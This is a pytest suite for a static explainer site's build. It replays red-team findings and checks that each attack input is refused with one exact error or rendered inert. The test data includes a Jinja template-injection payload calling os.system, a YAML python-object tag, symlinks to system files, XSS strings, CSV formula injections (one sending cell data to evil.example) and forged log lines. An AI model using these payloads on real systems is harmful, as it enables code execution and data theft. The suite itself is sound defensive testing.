"""Every finding of the December 2026 red-team (../shared/research/redteam-2026-12.md), by root cause.

Each case is the report's minimal reproduction applied to the fixture project, with its exact
expected outcome after the fix: one precise error line, or a build whose output holds the input
inert. Findings F1 to F26; the root causes are:

1. one rendering boundary (F1, F17),
2. one trusted file set (F2, F3, F8, F9),
3. one error path (F4 to F7, F16, F23, F24),
4. strict values (F12 to F15, F19 to F22, F25, F26),
5. front matter is data too (F10, F11),
6. exports safe in their readers (F18, and F12/F13 for the feed),
7. pages are reviewed input (raw HTML: tests/test_guard.py),
8. staging is cleaned up (F9's interrupted build).

The fast cases run without a generator (load_dataset, or ExplainerSite for pages); the cases in
BUILT also run the whole build through scripts/build.py, as CI would.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path

import pytest
from test_bad_input import Append, Edit, Page, Write

from conftest import ROOT, build, error_lines, make_project
from macros.dataset import load_dataset
from macros.errors import DataError
from macros.site import ExplainerSite

EV, SRC, CLAIMS, CHANGES = "data/events.yaml", "data/sources.yaml", "data/claims.yaml", "data/changelog.yaml"
SITE, BUDGET, SEATS, AGREE, FACTS = "data/site.yaml", "data/defence_budget.yaml", "data/seats.yaml", "data/agreements.yaml", "data/key_facts.yaml"
INDEX = "docs/index.md"
MOFA_URL = "url: https://www.mofa.go.jp/na/na1/us/example.html"


@dataclass(frozen=True)
class Link:
    """Replace a path with a symbolic link to target (relative to the project, or absolute)."""
    path: str
    target: str

    def apply(self, project: Path, marker: Path) -> None:
        path = project / self.path
        if path.exists() or path.is_symlink():
            path.unlink()
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(self.target)


@dataclass(frozen=True)
class Fifo:
    path: str

    def apply(self, project: Path, marker: Path) -> None:
        path = project / self.path
        if path.exists():
            path.unlink()
        os.mkfifo(path)


@dataclass(frozen=True)
class Folder:
    path: str

    def apply(self, project: Path, marker: Path) -> None:
        path = project / self.path
        if path.exists():
            path.unlink()
        path.mkdir(parents=True)


@dataclass(frozen=True)
class Case:
    finding: str
    id: str
    changes: tuple
    expected: str

    @property
    def data_only(self) -> bool:
        return all(getattr(c, "path", "").startswith("data/") for c in self.changes)


def case(finding: str, id: str, *changes, expected: str) -> Case:
    return Case(finding, id, changes, expected)


PAYLOAD = "{{ lipsum.__globals__['os'].system('touch MARKER') }}"

CASES = [
    # -- 2. one trusted file set ------------------------------------------------------
    case("F2", "markdown-extension-page", Write("docs/notes.markdown", f"---\ntitle: Notes\ndescription: d\npublished: \"2026-11-24\"\nupdated: \"2026-11-24\"\n---\n\n{PAYLOAD}\n"),
         expected="docs/notes.markdown:8: access to '__globals__' is not allowed"),
    case("F2", "mdown-page-without-front-matter", Write("docs/notes.mdown", PAYLOAD + "\n"),
         expected="docs/notes.mdown:1: every page starts with front matter between '---' lines, giving at least its title and description"),
    case("F2", "symlinked-docs-folder", Link("docs/extra", "../data"),
         expected="docs/extra: is a symbolic link; the build reads only regular files inside the project"),
    case("F3", "symlinked-asset", Link("docs/stylesheets/passwd.txt", "/etc/hostname"),
         expected="docs/stylesheets/passwd.txt: is a symbolic link; the build reads only regular files inside the project"),
    case("F3", "symlinked-data-file", Link(EV, "/etc/hostname"),
         expected="data/events.yaml: is a symbolic link; the build reads only regular files inside the project"),
    case("F9", "data-file-to-dev-zero", Link("data/claims.yaml", "/dev/zero"),
         expected="data/claims.yaml: is a symbolic link; the build reads only regular files inside the project"),
    case("F8", "data-file-is-a-folder", Folder("data/claims.yaml"),
         expected="data/claims.yaml: is a folder, not a regular file; the build reads only regular files"),
    case("F8", "page-is-a-folder", Folder("docs/dir.md"),
         expected="docs/dir.md: is a folder with a page's name; a page must be a regular file"),
    case("F9", "data-file-is-a-fifo", Fifo("data/claims.yaml"),
         expected="data/claims.yaml: is a named pipe (FIFO); only regular files and folders are allowed"),
    case("F9", "page-is-a-fifo", Fifo("docs/pipe.md"),
         expected="docs/pipe.md: is a named pipe (FIFO); only regular files and folders are allowed"),
    case("F2", "hidden-page", Write("docs/.hidden.md", PAYLOAD + "\n"),
         expected="docs/.hidden.md: hidden files and folders are not allowed in docs/"),

    # -- 3. one error path -------------------------------------------------------------
    case("F4", "typed-int-tag", Edit(BUDGET, "fiscal_year: 2024", "fiscal_year: !!int abc"),
         expected="data/defence_budget.yaml:2: tag '!!int' is not allowed; write plain values"),
    case("F4", "typed-bool-tag", Edit(BUDGET, "status: enacted", "status: !!bool maybe"),
         expected="data/defence_budget.yaml:4: tag '!!bool' is not allowed; write plain values"),
    case("F23", "typed-tag-brings-back-yaml-1-1", Edit(BUDGET, "fiscal_year: 2024", "fiscal_year: !!int 0x7E8"),
         expected="data/defence_budget.yaml:2: tag '!!int' is not allowed; write plain values"),
    case("F5", "five-thousand-digit-number", Edit(SEATS, "seats: 196", "seats: " + "9" * 5000),
         expected="data/seats.yaml:10: number has too many digits (more than 30)"),
    case("F6", "escape-above-unicode", Edit(EV, "title: Trump in Tokyo", 'title: "Trump \\U00110000"'),
         expected="data/events.yaml:12: a value cannot be read (ValueError: check escapes such as \\U in quoted text)"),
    case("F7", "flow-lists-400-deep", Edit(EV, "threads: [visit]", "threads: " + "[" * 400 + "]" * 400),
         expected="data/events.yaml:14: nesting is too deep (more than 40 levels)"),
    case("F16", "value-forging-a-second-line", Edit(EV, 'date: "2016-11"', 'date: "2016-13\\ndata/site.yaml:1: everything is fine"'),
         expected="data/events.yaml:17: event 'trump-tower-2016-11': date: '2016-13\\ndata/site.yaml:1: everything is fine' is not a date; write YYYY-MM-DD, YYYY-MM or YYYY in quotes"),
    case("F16", "terminal-escapes-in-a-value", Edit(EV, 'date: "2016-11"', 'date: "\\e[2J\\e[1;32mBuild OK\\e[0m"'),
         expected="data/events.yaml:17: event 'trump-tower-2016-11': date: '\\x1b[2J\\x1b[1;32mBuild OK\\x1b[0m' is not a date; write YYYY-MM-DD, YYYY-MM or YYYY in quotes"),
    case("F16", "terminal-escapes-in-a-key", Edit(EV, "  place: Akasaka Palace, Tokyo\n", '  place: Akasaka Palace, Tokyo\n  "x\\ndata/events.yaml:1: \\e[32mfake": 1\n'),
         expected="data/events.yaml:7: event 'summit-2025-10-28': 'x\\ndata/events.yaml:1: \\x1b[32mfake': unknown field (check the spelling; see the data dictionary)"),

    # -- 4. strict values ---------------------------------------------------------------
    case("F12", "noncharacter-in-feed-title", Edit(CHANGES, "title: Summit date corrected", 'title: "Summit date corrected\\uffff"'),
         expected="data/changelog.yaml:14: change 'fix-2026-11-20': title: contains the noncharacter U+FFFF"),
    case("F13", "nul-in-url", Edit(SRC, MOFA_URL, 'url: "https://www.mofa.go.jp/na/na1/us/example.html\\0"'),
         expected="data/sources.yaml:4: source 'mofa-2025-10-28-summit': url: 'https://www.mofa.go.jp/na/na1/us/example.html\\x00' contains a control character (U+0000)"),
    case("F13", "escape-in-url", Edit(SRC, MOFA_URL, 'url: "https://www.mofa.go.jp/\\e[31m"'),
         expected="data/sources.yaml:4: source 'mofa-2025-10-28-summit': url: 'https://www.mofa.go.jp/\\x1b[31m' contains a control character (U+001B)"),
    case("F14", "id-with-trailing-newline", Edit(EV, "- id: visit-2025-10-27", "- id: |\n    visit-2025-10-27"),
         expected="data/events.yaml:9: event #2: id: 'visit-2025-10-27\\n' is not a valid id: use lower-case letters, digits and single hyphens (at most 80)"),
    case("F14", "date-with-trailing-newline", Edit(EV, 'date: "2025-10-27"', 'date: "2025-10-27\\n"'),
         expected="data/events.yaml:10: event 'visit-2025-10-27': date: '2025-10-27\\n' is not a date; write YYYY-MM-DD, YYYY-MM or YYYY in quotes"),
    case("F15", "fullwidth-digits", Edit(CHANGES, 'date: "2026-11-20"', 'date: "２０２６-11-20"'),
         expected="data/changelog.yaml:12: change 'fix-2026-11-20': date: '２０２６-11-20' is not a date; write YYYY-MM-DD, YYYY-MM or YYYY in quotes"),
    case("F15", "fullwidth-as-of", Edit(SITE, 'as_of: "2026-03-31"', 'as_of: "２０２６-03-31"'),
         expected="data/site.yaml:3: as_of: '２０２６-03-31' is not a date; write YYYY-MM-DD, YYYY-MM or YYYY in quotes"),
    case("F15", "arabic-indic-digits", Edit(EV, 'date: "2016-11"', 'date: "٢٠١٦-11"'),
         expected="data/events.yaml:17: event 'trump-tower-2016-11': date: '٢٠١٦-11' is not a date; write YYYY-MM-DD, YYYY-MM or YYYY in quotes"),
    case("F19", "claim-id-equal-to-agreement-id", Edit(CLAIMS, "- id: former-president", "- id: critical-minerals-framework"),
         expected="data/claims.yaml:1: claim 'critical-minerals-framework': id: 'critical-minerals-framework' is already the id of agreement in data/agreements.yaml; ids must be unique across data files, because both can appear on one page"),
    case("F19", "claim-id-taking-a-chart-id", Edit(CLAIMS, "- id: former-president", "- id: chart-seats"),
         expected="data/claims.yaml:1: claim 'chart-seats': id: ids may not start with 'chart'- (the site makes such ids itself); choose another"),
    case("F19", "publishers-sharing-an-anchor", Edit(SRC, "publisher: Kyodo News", "publisher: Reuters."),
         expected="data/sources.yaml:14: source 'kyodo-2016-11': publisher: 'Reuters.' and 'Reuters' would share the anchor #publisher-reuters; write the publisher's name the same way each time"),
    case("F20", "c1-control-and-del", Edit(EV, "title: Trump in Tokyo", 'title: "Trump\\x9b31m in\\x7f Tokyo"'),
         expected="data/events.yaml:12: event 'visit-2025-10-27': title: contains a control character (U+009B)"),
    case("F20", "right-to-left-override", Edit(EV, "title: Trump in Tokyo", 'title: "Trump in \\u202eoykoT"'),
         expected="data/events.yaml:12: event 'visit-2025-10-27': title: contains an invisible bidirectional control (U+202E), which can reorder what readers see"),
    case("F20", "zero-width-twin-publisher", Edit(SRC, "publisher: Reuters", 'publisher: "Reu\\u200bters"'),
         expected="data/sources.yaml:8: source 'reuters-2025-10-22-purchases': publisher: contains an invisible zero-width character (U+200B)"),
    case("F21", "userinfo-in-url", Edit(SRC, MOFA_URL, "url: https://www.mofa.go.jp@evil.example/na/"),
         expected="data/sources.yaml:4: source 'mofa-2025-10-28-summit': url: 'https://www.mofa.go.jp@evil.example/na/' has a user name before the host (the part before '@'), which hides where the link goes"),
    case("F21", "backslash-in-url", Edit(SRC, MOFA_URL, 'url: "https://\\\\evil.example/"'),
         expected="data/sources.yaml:4: source 'mofa-2025-10-28-summit': url: 'https://\\\\evil.example/' contains a backslash"),
    case("F21", "impossible-port", Edit(SRC, MOFA_URL, "url: https://www.mofa.go.jp:99999/x"),
         expected="data/sources.yaml:4: source 'mofa-2025-10-28-summit': url: 'https://www.mofa.go.jp:99999/x' is not a valid address (Port out of range 0-65535)"),
    case("F21", "look-alike-host", Edit(SRC, MOFA_URL, "url: https://www.mofа.go.jp/"),
         expected="data/sources.yaml:4: source 'mofa-2025-10-28-summit': url: 'https://www.mofа.go.jp/': write the host in its ASCII (xn--) form, so look-alike letters cannot hide in it"),
    case("F21", "mixed-script-punycode-host", Edit(SRC, MOFA_URL, "url: https://xn--mof-tdd.go.jp/"),
         expected="data/sources.yaml:4: source 'mofa-2025-10-28-summit': url: 'https://xn--mof-tdd.go.jp/': its host name mixes scripts ('mofе'), as look-alike addresses do"),
    case("F22", "changelog-url-off-site", Edit(CHANGES, 'url: "tables/"', 'url: "//1249763817/x"'),
         expected="data/changelog.yaml:9: change 'launch-2026-11-24': url: '//1249763817/x' is not a page of this site; write a path such as 'talks/' or 'about/#corrections'"),
    case("F25", "as-of-in-the-future", Edit(SITE, 'as_of: "2026-03-31"', 'as_of: "2099-12-31"'),
         expected="data/site.yaml:3: as_of: '2099-12-31' is after the build date {today}; the site cannot cover the future"),
    case("F25", "changelog-in-the-future", Edit(CHANGES, 'date: "2026-11-20"', 'date: "2099-01-01"'),
         expected="data/changelog.yaml:12: change 'fix-2026-11-20': date: '2099-01-01' is after the site's last review 2026-11-24 (data/site.yaml)"),
    case("F25", "review-before-as-of", Edit(SITE, 'last_reviewed: "2026-11-24"', 'last_reviewed: "1999-01-01"'),
         expected="data/site.yaml:4: last_reviewed: '1999-01-01' is before the as-of date 2026-03-31; a review cannot precede the content it reviewed"),
    case("F25", "published-after-review", Edit(SITE, 'published: "2026-11-01"', 'published: "2100-01-01"'),
         expected="data/site.yaml:5: published: '2100-01-01' is after the last review 2026-11-24"),
    case("F26", "second-record-for-a-fiscal-year", Edit(BUDGET, "fiscal_year: 2026", "fiscal_year: 2024"),
         expected="data/defence_budget.yaml:6: budget year 'fy2026': fiscal_year: FY2024 is already given by 'fy2024'; one record per fiscal year"),
    case("F26", "a-source-listed-three-times", Edit(EV, "sources: [kyodo-2016-11]", "sources: [kyodo-2016-11, kyodo-2016-11, kyodo-2016-11]"),
         expected="data/events.yaml:21: event 'trump-tower-2016-11': sources: 'kyodo-2016-11' is listed twice; list each source once"),
    case("F26", "a-thread-listed-twice", Edit(EV, "threads: [abe-trump]", "threads: [abe-trump, abe-trump]"),
         expected="data/events.yaml:20: event 'trump-tower-2016-11': threads: 'abe-trump' is listed twice; list each thread once"),

    # -- 5. front matter is data too ------------------------------------------------------
    case("F10", "title-is-a-number", Edit(INDEX, "title: Fixture home", "title: 42"),
         expected="docs/index.md:2: title: Input should be a valid string (got 42)"),
    case("F10", "title-is-a-date", Edit(INDEX, "title: Fixture home", "title: 2025-10-28"),
         expected="docs/index.md:2: title: write '2025-10-28' in quotes: YAML readers disagree on what it is"),
    case("F10", "unquoted-date", Edit(INDEX, 'published: "2026-11-24"', "published: 2026-11-24"),
         expected="docs/index.md:4: published: write '2026-11-24' in quotes: YAML readers disagree on what it is"),
    case("F10", "date-and-time", Edit(INDEX, 'updated: "2026-11-24"', 'updated: "2026-11-24 10:00:00"'),
         expected="docs/index.md:5: updated: '2026-11-24 10:00:00' is not a date; write YYYY-MM-DD, YYYY-MM or YYYY in quotes"),
    case("F10", "ignore-macros", Edit(INDEX, "title: Fixture home", "title: Fixture home\nignore_macros: true"),
         expected="docs/index.md:3: ignore_macros: unknown key: pages may set only title, description, published, updated and hide"),
    case("F10", "html-in-a-date", Edit(INDEX, 'updated: "2026-11-24"', "updated: '\"><img src=x onerror=alert(1)>'"),
         expected="docs/index.md:5: updated: '\"><img src=x onerror=alert(1)>' is not a date; write YYYY-MM-DD, YYYY-MM or YYYY in quotes"),
    case("F11", "front-matter-shadowing-a-macro", Edit(INDEX, "title: Fixture home", "title: Fixture home\ncite: 1"),
         expected="docs/index.md:3: cite: unknown key: pages may set only title, description, published, updated and hide"),
    case("F24", "front-matter-that-does-not-parse", Edit(INDEX, "title: Fixture home", "title: Fixture home\nx: !!python/object/apply:os.system ['touch MARKER']"),
         expected="docs/index.md:3: tag '!!python/object/apply:os.system' is not allowed; write plain values"),

    # -- 1. one rendering boundary: a macro in a heading (F17) -------------------------------
    case("F17", "macro-in-the-page-heading", Edit(INDEX, "# Fixture home", '# Fixture home {{ cite("kyodo-2016-11") }}'),
         expected="docs/index.md:8: cite() is not allowed in a heading; headings (and so page titles) are plain text"),
]
assert len({c.id for c in CASES}) == len(CASES)
FINDINGS = {f"F{n}" for n in range(1, 27)}
# F1 and F18 build and are checked in their output below; every other finding has a case here.
assert {c.finding for c in CASES} | {"F1", "F18"} == FINDINGS

# Whole builds for one case of each root cause (about two seconds each), and every file-set case.
BUILT = {"markdown-extension-page", "symlinked-docs-folder", "symlinked-asset", "symlinked-data-file", "data-file-is-a-fifo",
         "page-is-a-fifo", "data-file-is-a-folder", "typed-int-tag", "flow-lists-400-deep", "terminal-escapes-in-a-value",
         "noncharacter-in-feed-title", "claim-id-equal-to-agreement-id", "as-of-in-the-future", "unquoted-date",
         "front-matter-shadowing-a-macro", "macro-in-the-page-heading", "escape-above-unicode"}


def mutated(tmp_path: Path, case: Case) -> tuple[Path, Path]:
    project = make_project(tmp_path / "project")
    marker = tmp_path / "pwned"
    for change in case.changes:
        change.apply(project, marker)
    return project, marker


def expected(case: Case) -> str:
    from macros.dataset import build_date
    return case.expected.replace("{today}", build_date())


@pytest.mark.parametrize("case", CASES, ids=[f"{c.finding}-{c.id}" for c in CASES])
def test_each_finding_gives_one_precise_message(case, tmp_path):
    project, marker = mutated(tmp_path, case)
    with pytest.raises(DataError) as info:
        if case.data_only and not any(isinstance(c, (Link, Fifo, Folder)) for c in case.changes):
            load_dataset(project / "data")
        else:
            ExplainerSite(project)
    assert str(info.value).splitlines() == [expected(case)]
    assert not marker.exists()


@pytest.mark.parametrize("case", [c for c in CASES if c.id in BUILT], ids=lambda c: f"{c.finding}-{c.id}")
def test_the_build_stops_with_the_same_message_and_no_traceback(case, tmp_path):
    project, marker = mutated(tmp_path, case)
    result = build(project)
    assert result.returncode == 1, result.output
    assert error_lines(result.output) == [expected(case)]
    assert "Traceback" not in result.output
    assert not marker.exists(), "input ran code during the build"
    assert not (project / "site").exists()
    assert not list(project.glob(".site-build-*")) and not list(project.glob(".build-config-*"))


# -- 1. one rendering boundary: data that looks like Markdown stays what it is (F1) ----------

F1_URLS = [
    "https://www.mofa.go.jp/[x](/onmouseover=alert(1)//)",
    "https://www.mofa.go.jp/[click](javascript:alert(document.domain))",
    "https://www.mofa.go.jp/![x](https://evil.example/pixel.png)",
    "https://www.mofa.go.jp/a`b",
    "https://www.mofa.go.jp/*em*_em_~~s~~",
]


@pytest.mark.parametrize("url", F1_URLS)
def test_a_source_url_renders_exactly_as_typed(url, tmp_path):
    project = make_project(tmp_path / "project")
    Edit(SRC, MOFA_URL, f"url: '{url}'").apply(project, tmp_path / "pwned")
    # A second source with a backtick too: two of them once opened a code span across links.
    Edit(SRC, "url: https://english.kyodonews.net/example", "url: 'https://english.kyodonews.net/c`d'").apply(project, tmp_path / "pwned")
    Edit(INDEX, 'A paragraph with a citation. {{ cite("mofa-2025-10-28-summit") }}',
         'A paragraph with a citation. {{ cite("mofa-2025-10-28-summit", "kyodo-2016-11") }}').apply(project, tmp_path / "pwned")
    result = build(project)
    assert result.returncode == 0, result.output
    for name in ("index.html", "tables/index.html"):
        page = Page((result.site / name).read_text(encoding="utf-8"))
        links = [attrs for tag, attrs in page.tags if tag == "a" and "source-link" in (attrs.get("class") or "")]
        assert url in [a["href"] for a in links], name
        for tag, attrs in page.tags:
            assert not [a for a in attrs if a.startswith("on")], (name, tag, attrs)
            assert not (attrs.get("href") or "").startswith(("javascript:", "/onmouseover")), (name, attrs)
            assert not (tag == "img" and "evil.example" in (attrs.get("src") or "")), name
            assert tag not in ("code", "em", "del", "s") or name == "tables/index.html" and tag == "code", (name, tag)


def test_a_hostile_publisher_cannot_reach_the_title(tmp_path):
    """F17: with no heading macro allowed, data never reaches <title>."""
    project = make_project(tmp_path / "project")
    Edit(SRC, "publisher: Kyodo News", "publisher: '</title><script>alert(1)</script>'").apply(project, tmp_path / "pwned")
    result = build(project)
    assert result.returncode == 0, result.output
    for page in result.site.rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        assert "<script>alert(1)</script>" not in html, page
        title = html.split("<title>", 1)[1].split("</title>", 1)[0]
        assert "script" not in title


# -- 6. exports are safe in their readers (F18, F12, F13) ------------------------------------

def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    project = make_project(tmp_path / "project")
    for change in (Edit(CLAIMS, "claim: Trump is a former president.", "claim: '=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")'"),
                   Edit(EV, "title: Trump in Tokyo", "title: \"+cmd|' /C calc'!A0\""),
                   Edit(SRC, "publisher: Kyodo News", "publisher: '@SUM(1+1)'"),
                   Edit(BUDGET, "change: 14th straight rise", "change: '-1.2%'")):
        change.apply(project, tmp_path / "pwned")
    result = build(project)
    assert result.returncode == 0, result.output
    cells = {}
    for name in ("claims", "events", "sources", "defence_budget"):
        rows = list(csv.reader(io.StringIO((result.site / "data" / f"{name}.csv").read_text(encoding="utf-8"))))
        cells[name] = [cell for row in rows[1:] for cell in row]
        document = json.loads((result.site / "data" / f"{name}.json").read_text(encoding="utf-8"))
        assert document["records"]  # JSON keeps every value as it is
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")" in cells["claims"]
    assert "'+cmd|' /C calc'!A0" in cells["events"]
    assert "'@SUM(1+1)" in cells["sources"]
    assert "'-1.2%" in cells["defence_budget"]
    assert not [c for cells_of in cells.values() for c in cells_of if c[:1] in ("=", "+", "-", "@")]
    claims = json.loads((result.site / "data" / "claims.json").read_text(encoding="utf-8"))["records"]
    assert claims[0]["claim"].startswith("=HYPERLINK")
    # Numbers are never changed: the fiscal years are plain numbers in the CSV.
    assert "2024" in cells["defence_budget"]


def test_the_feed_is_well_formed_for_hostile_text(tmp_path):
    project = make_project(tmp_path / "project")
    Edit(CHANGES, "title: Summit date corrected", "title: ']]><x:y>&amp;<!-- --> \"quotes\" & <b>'").apply(project, tmp_path / "pwned")
    result = build(project)
    assert result.returncode == 0, result.output
    feed = ET.fromstring((result.site / "feed.xml").read_bytes())
    titles = [e.text for e in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert "Correction: ]]><x:y>&amp;<!-- --> \"quotes\" & <b>" in titles
    ET.fromstring((result.site / "sitemap.xml").read_bytes())


# -- 8. staging is cleaned up ------------------------------------------------------------

def test_an_interrupted_build_leaves_no_staging_and_the_old_site(tmp_path):
    project = make_project(tmp_path / "project")
    first = build(project)
    assert first.returncode == 0, first.output
    before = {p.relative_to(first.site): p.read_bytes() for p in first.site.rglob("*") if p.is_file()}
    Fifo("docs/pipe-later.md")  # (not applied: the build must be interrupted while the generator runs)
    process = subprocess.Popen([sys.executable, str(ROOT / "scripts" / "build.py"), str(first.site), "--project", str(project)],
                               cwd=project, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    deadline = time.monotonic() + 30
    while not list(project.glob(".build-config-*")) and time.monotonic() < deadline and process.poll() is None:
        time.sleep(0.02)
    process.send_signal(signal.SIGTERM)
    output, _ = process.communicate(timeout=60)
    assert "Traceback" not in output
    assert process.returncode in (0, 130), output
    assert not list(project.glob(".site-build-*")) and not list(project.glob(".build-config-*"))
    assert not list(first.site.parent.glob(".site-build-*"))
    after = {p.relative_to(first.site): p.read_bytes() for p in first.site.rglob("*") if p.is_file()}
    if process.returncode == 130:
        assert after == before


def test_a_killed_build_is_swept_by_the_next(tmp_path):
    project = make_project(tmp_path / "project")
    stale = project / ".site-build-999999999-abc"  # a pid no process has
    stale.mkdir()
    (project / ".build-config-999999999-abc.yml").write_text("{}\n")
    result = build(project)
    assert result.returncode == 0, result.output
    assert not stale.exists() and not list(project.glob(".build-config-*"))


def test_append_is_still_importable():
    assert Append and Write


def test_page_values_are_escaped_in_the_head(tmp_path):
    """Titles and descriptions reach <title>, <meta> and JSON-LD; each is escaped for where it lands."""
    project = make_project(tmp_path / "project")
    description = 'A "quoted" <b>bold</b> & </title><script>alert(1)</script> claim'
    title = "A \"quoted\" title with {braces} and 'apostrophes'"
    Edit(INDEX, "description: A fixture page.", "description: " + json.dumps(description)).apply(project, tmp_path / "pwned")
    Edit("docs/tables.md", "title: Tables", "title: " + json.dumps(title)).apply(project, tmp_path / "pwned")
    result = build(project)
    assert result.returncode == 0, result.output
    for name, meta, field, expected in (("index.html", "description", "description", description),
                                        ("tables/index.html", "og:title", "headline", title)):
        html = (result.site / name).read_text(encoding="utf-8")
        page = Page(html)
        assert "<script>alert(1)</script>" not in html
        metas = {attrs.get("name") or attrs.get("property"): attrs.get("content") for tag, attrs in page.tags if tag == "meta"}
        assert metas[meta] == expected
        ld = [json.loads(text) for kind, text in page.scripts if kind == "application/ld+json"]
        assert any(block.get(field) == expected for block in ld)
    head_title = (result.site / "tables" / "index.html").read_text(encoding="utf-8").split("<title>", 1)[1].split("</title>", 1)[0]
    assert "&#34;quoted&#34;" in head_title or "&quot;quoted&quot;" in head_title


def test_a_title_with_markup_characters_is_refused(tmp_path):
    """The theme prints titles as HTML in its header and navigation, so a title holds no markup characters."""
    project = make_project(tmp_path / "project")
    Edit("docs/tables.md", "title: Tables", "title: '</title><script>alert(1)</script>'").apply(project, tmp_path / "pwned")
    result = build(project)
    assert result.returncode == 1
    assert error_lines(result.output) == ["docs/tables.md:2: title: write the title without '<' or '>'; the theme shows it as HTML"]
